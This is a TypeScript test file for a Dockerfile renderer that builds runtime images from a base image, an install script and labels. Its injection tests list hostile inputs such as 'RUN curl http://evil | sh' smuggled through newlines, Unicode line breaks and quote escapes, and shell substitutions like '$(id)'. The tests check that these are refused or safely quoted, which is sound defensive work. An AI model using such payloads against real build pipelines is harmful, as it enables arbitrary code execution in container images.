import { InvalidInputError } from '#libs/errors';
import { defineRuntimeStrategy, renderRuntimeDockerfile } from './runtime-dockerfile.js';
import { BASE_NAME_LABEL, BUILD_IDENTITY_LABEL, RUNTIME_KIND_LABEL } from './dockerfile-labels.js';
import type { DockerfileInput } from './runtime-strategy.js';

const SOURCE = 'apache/openserverless-runtime-python:v3.12-2506091954';

/** Every way a Dockerfile reader (or a careless one) could see a line break. */
const LINE_BREAKS = /\r\n|\r|\n|\u0085|\u2028|\u2029/;

function instructions(dockerfile: string): string[] {
  return dockerfile.split(LINE_BREAKS).filter((line) => line !== '').map((line) => line.split(' ')[0]);
}

/**
 * Reads a LABEL instruction the way the Dockerfile lexer reads double-quoted
 * words: a backslash escapes only `"`, `\` and `$`; an unescaped `$` would be
 * expanded, so it is refused here.
 */
function readLabels(line: string): Record<string, string> {
  if (!line.startsWith('LABEL ')) throw new Error(`not a LABEL: ${line}`);
  const labels: Record<string, string> = {};
  let at = 'LABEL '.length;
  const word = (): string => {
    if (line[at] !== '"') throw new Error(`expected a quote at ${at}`);
    let text = '';
    for (at += 1; at < line.length; at += 1) {
      const ch = line[at];
      if (ch === '"') {
        at += 1;
        return text;
      }
      if (ch === '$') throw new Error(`unescaped $ at ${at}`);
      if (ch === '\\' && ['"', '\\', '$'].includes(line[at + 1])) {
        at += 1;
        text += line[at];
      } else {
        text += ch;
      }
    }
    throw new Error('unterminated quote');
  };
  while (at < line.length) {
    const key = word();
    if (line[at] !== '=') throw new Error(`expected = at ${at}`);
    at += 1;
    labels[key] = word();
    if (at < line.length && line[at] !== ' ') throw new Error(`expected a space at ${at}`);
    at += 1;
  }
  return labels;
}

const SCRIPT = ['deployer-install.sh'];
const render = (kind: Parameters<typeof renderRuntimeDockerfile>[0], file: string, input: Omit<DockerfileInput, 'user'> & { user?: string }) =>
  renderRuntimeDockerfile(kind, file, SCRIPT, { user: 'nobody', ...input });

describe('renderRuntimeDockerfile', () => {
  it('renders the install step with the file, then the base user again', () => {
    const dockerfile = render('python', 'requirements.txt', {
      source: SOURCE,
      hasFile: true,
      labels: { [BUILD_IDENTITY_LABEL]: 'abc123' },
    });
    expect(dockerfile).toBe(
      [
        `FROM ${SOURCE}`,
        'COPY requirements.txt /tmp/requirements.txt',
        'USER root',
        'RUN --mount=type=bind,source=deployer-install.sh,target=/run/deployer/install.sh ' +
          '--mount=type=secret,id=deployer-install-env --mount=type=secret,id=deployer-ca-bundle sh /run/deployer/install.sh',
        'USER nobody',
        `LABEL "${BASE_NAME_LABEL}"="${SOURCE}" "${BUILD_IDENTITY_LABEL}"="abc123" "${RUNTIME_KIND_LABEL}"="python"`,
        '',
      ].join('\n'),
    );
  });

  it('re-tags the source when there is no file', () => {
    const dockerfile = render('go', 'go.mod', { source: 'r.io/go:1', hasFile: false, labels: {} });
    expect(dockerfile).toBe(`FROM r.io/go:1\nLABEL "${BASE_NAME_LABEL}"="r.io/go:1" "${RUNTIME_KIND_LABEL}"="go"\n`);
  });

  it('keeps its own labels when the caller passes the same keys', () => {
    const dockerfile = render('ruby', 'Gemfile', {
      source: 'ruby',
      hasFile: false,
      labels: { [BASE_NAME_LABEL]: 'forged', [RUNTIME_KIND_LABEL]: 'forged' },
    });
    expect(readLabels(dockerfile.split('\n')[1])).toEqual({ [BASE_NAME_LABEL]: 'ruby', [RUNTIME_KIND_LABEL]: 'ruby' });
  });

  it.each([
    'python\nRUN curl http://evil | sh',
    'python\rRUN id',
    'python RUN id',
    'python:3 AS x',
    'python;id',
    'python$(id)',
    'python`id`',
    '$BASE',
    '--platform=linux/amd64 python',
    '',
  ])('refuses the hostile source %j', (source) => {
    expect(() => render('python', 'requirements.txt', { source, hasFile: true, labels: {} })).toThrow(
      InvalidInputError,
    );
  });

  const hostileValues = [
    'x"\nRUN curl http://evil | sh\nLABEL y="',
    'x\r\nUSER root',
    'x\u2028RUN id\u2029RUN id\u0085RUN id',
    'x\\',
    'x\\"\nRUN id',
    '"',
    '\\\\"',
    '$(id) `id` ${HOME} $HOME',
    'a=b c=d',
    '\u0000\u001b[2J',
    '#',
    "'single'",
  ];

  it.each(hostileValues)('never gains an instruction from the label value %j', (value) => {
    for (const hasFile of [true, false]) {
      const dockerfile = render('nodejs', 'package.json', {
        source: SOURCE,
        hasFile,
        labels: { [BUILD_IDENTITY_LABEL]: value, [value]: 'key' },
      });
      const expected = hasFile ? ['FROM', 'COPY', 'USER', 'RUN', 'USER', 'LABEL'] : ['FROM', 'LABEL'];
      expect(instructions(dockerfile)).toEqual(expected);
      const labels = readLabels(dockerfile.split('\n')[expected.length - 1]);
      expect(Object.keys(labels)).toHaveLength(4);
      expect(labels[BASE_NAME_LABEL]).toBe(SOURCE);
    }
  });

  it('round-trips printable hostile values exactly through the Dockerfile quoting', () => {
    const printable = hostileValues.filter((value) => /^[\x20-\x7e]*$/.test(value));
    expect(printable.length).toBeGreaterThan(4);
    for (const value of printable) {
      const dockerfile = render('php', 'composer.json', {
        source: SOURCE,
        hasFile: false,
        labels: { [BUILD_IDENTITY_LABEL]: value },
      });
      expect(readLabels(dockerfile.split('\n')[1])[BUILD_IDENTITY_LABEL]).toBe(value);
    }
  });
});

describe('defineRuntimeStrategy', () => {
  const strategy = defineRuntimeStrategy({
    kind: 'php',
    dependencyFile: 'composer.json',
    defaultUser: 'root',
    extendibleWithoutExtend: true,
    check: () => undefined,
    fallback: 'say fallback',
    installData: (content) => ({ 'deployer-data': content.toUpperCase() }),
  });

  it('declares its data and renders with its install files mounted', () => {
    expect(strategy).toMatchObject({ kind: 'php', dependencyFile: 'composer.json', defaultUser: 'root', extendibleWithoutExtend: true });
    expect(Object.isFrozen(strategy)).toBe(true);
    const dockerfile = strategy.render({ source: 'php:8', hasFile: true, user: 'root', labels: {} });
    expect(dockerfile).toContain('--mount=type=bind,source=deployer-data,target=/run/deployer/data ');
    expect(dockerfile).toContain('--mount=type=bind,source=deployer-install.sh,target=/run/deployer/install.sh ');
    expect(dockerfile.split('\n').filter((line) => line.startsWith('USER '))).toEqual(['USER root', 'USER root']);
  });

  it('hands the install script and the data derived from the file, the script ending in the fallback', () => {
    const files = strategy.installFiles('a/b:^1');
    expect(Object.keys(files).sort()).toEqual(['deployer-data', 'deployer-install.sh']);
    expect(files['deployer-data']).toBe('A/B:^1');
    expect(files['deployer-install.sh']).toMatch(/^#!\/bin\/sh\n/);
    expect(files['deployer-install.sh'].trimEnd().endsWith('say fallback')).toBe(true);
  });

  it.each(['', 'root\nRUN id', 'nobody RUN', 'a:b:c', '$USER', '-u'])('refuses to render the user %j', (user) => {
    expect(() => strategy.render({ source: 'php:8', hasFile: true, user, labels: {} })).toThrow(InvalidInputError);
  });

  it('keeps uid:gid users', () => {
    expect(strategy.render({ source: 'php:8', hasFile: true, user: '65534:0', labels: {} })).toContain('\nUSER 65534:0\n');
  });
});
